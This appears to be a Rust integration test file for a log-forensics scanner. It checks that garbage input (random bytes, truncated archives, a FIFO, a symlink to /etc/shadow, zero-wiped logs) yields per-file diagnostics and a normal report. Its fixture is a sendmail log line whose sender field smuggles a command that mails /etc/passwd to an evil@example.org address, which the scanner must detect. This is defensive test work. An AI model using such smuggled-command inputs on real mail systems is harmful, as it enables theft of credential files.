//! Hostile and broken input never ends a run: a directory of garbage (random bytes, a
//! truncated .gz, a 100 MB line, a FIFO, a link out of the root, a directory named like
//! a log) gives diagnostics naming each file and a normal report for the rest.

// Builds and reads test fixtures with the standard library: a test or benchmark, not the tool.
#![allow(clippy::disallowed_methods)]

mod common;

use std::io::Write;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const ATTACK: &str = "Jan  2 03:04:05 mailhub sendmail[4242]: DAA04242: from=|/bin/mail evil@example.org < /etc/passwd, size=1, class=0, pri=30001, nrcpts=1, proto=SMTP, relay=[192.0.2.9]\n";

fn random_bytes(len: usize, mut seed: u64) -> Vec<u8> {
    (0..len)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed >> 24) as u8
        })
        .collect()
}

#[test]
fn garbage_gives_diagnostics_and_a_report() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let log = root.join("var/log");
    std::fs::create_dir_all(&log).unwrap();

    std::fs::write(log.join("syslog"), random_bytes(1 << 20, 7)).unwrap();

    // A truncated gzip whose intact part holds an attack line.
    let mut text = String::from(ATTACK);
    for i in 0..20_000 {
        text.push_str(&format!(
            "Jan  2 03:05:{:02} mailhub named[12]: lame server {i}\n",
            i % 60
        ));
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(text.as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    std::fs::write(log.join("syslog.1.gz"), &gz[..gz.len() * 2 / 3]).unwrap();

    // A 100 MB line, then the attack again.
    {
        let mut messages =
            std::io::BufWriter::new(std::fs::File::create(log.join("messages")).unwrap());
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..100 {
            messages.write_all(&chunk).unwrap();
        }
        messages.write_all(b"\n").unwrap();
        messages
            .write_all(ATTACK.replace("4242", "4343").as_bytes())
            .unwrap();
    }

    assert!(
        Command::new("mkfifo")
            .arg(log.join("maillog"))
            .status()
            .unwrap()
            .success()
    );
    std::os::unix::fs::symlink("/etc/shadow", log.join("auth.log")).unwrap();
    std::fs::create_dir(log.join("secure")).unwrap();

    let mut child = Command::new(env!("CARGO_BIN_EXE_kensa"))
        .args([
            "scan",
            "--root",
            root.to_str().unwrap(),
            "--format",
            "json",
            "-q",
            "--year",
            "1997",
            "-o",
        ])
        .arg(dir.path().join("report.json"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(120) {
            child.kill().unwrap();
            panic!("kensa hung (a FIFO opened for reading?)");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = std::fs::read(dir.path().join("report.json")).unwrap();
    let report: serde_json::Value = serde_json::from_slice(&report).unwrap();
    let diagnostics = report["diagnostics"].to_string();
    for name in [
        "var/log/syslog",
        "var/log/syslog.1.gz",
        "var/log/maillog",
        "var/log/auth.log",
        "var/log/secure",
        "var/log/messages",
    ] {
        assert!(
            diagnostics.contains(&format!("\"{name}\"")),
            "no diagnostic for {name}: {diagnostics}"
        );
    }
    let findings: Vec<&serde_json::Value> = report["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|h| h["findings"].as_array().unwrap())
        .filter(|f| f["kind"] == "sendmail-exploit")
        .collect();
    let files: Vec<&str> = findings
        .iter()
        .map(|f| f["evidence"][0]["file"].as_str().unwrap())
        .collect();
    assert!(
        files.contains(&"var/log/syslog.1.gz"),
        "the attack before the cut is lost: {files:?}"
    );
    assert!(
        files.contains(&"var/log/messages"),
        "the attack after the long line is lost: {files:?}"
    );
}

#[test]
fn a_wiped_log_is_reported_as_the_nul_run_it_is_compressed_or_not() {
    // A log wiper that zeroes a whole file leaves no newline at all; rotated and
    // compressed, it is a small .xz that decodes to nothing but NULs.
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("var/log");
    std::fs::create_dir_all(&log).unwrap();
    let zeros = vec![0u8; 64 << 20];
    std::fs::write(log.join("syslog"), &zeros[..3 << 20]).unwrap();
    let mut xz = Command::new("xz")
        .args(["-T1", "-c"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("xz (xz-utils) runs");
    let mut stdin = xz.stdin.take().unwrap();
    let writer = std::thread::spawn(move || stdin.write_all(&zeros).unwrap());
    let out = xz.wait_with_output().unwrap();
    writer.join().unwrap();
    std::fs::write(log.join("syslog.1.xz"), &out.stdout).unwrap();
    let report = common::live::scan(dir.path());
    let runs: Vec<(String, String)> = report["hosts"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "CP001")
        .flat_map(|f| f["evidence"].as_array().unwrap().iter())
        .map(|e| {
            (
                e["file"].as_str().unwrap().to_string(),
                e["text"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert!(
        runs.contains(&("var/log/syslog.1.xz".into(), "<67108864 NUL bytes>".into())),
        "{runs:?}"
    );
    assert!(
        runs.contains(&("var/log/syslog".into(), "<3145728 NUL bytes>".into())),
        "{runs:?}"
    );
}
